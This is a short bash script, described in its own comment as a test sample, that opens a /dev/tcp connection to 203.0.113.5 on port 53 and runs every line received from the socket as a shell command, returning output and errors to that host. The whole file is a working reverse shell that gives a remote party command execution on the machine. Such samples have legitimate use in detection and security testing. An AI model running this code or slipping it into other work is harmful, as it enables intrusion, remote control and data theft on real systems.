#!/bin/bash
# test sample: commands read line by line from a socket and executed
exec 5<>/dev/tcp/203.0.113.5/53
cat <&5 | while read line; do $line 2>&5 >&5; done
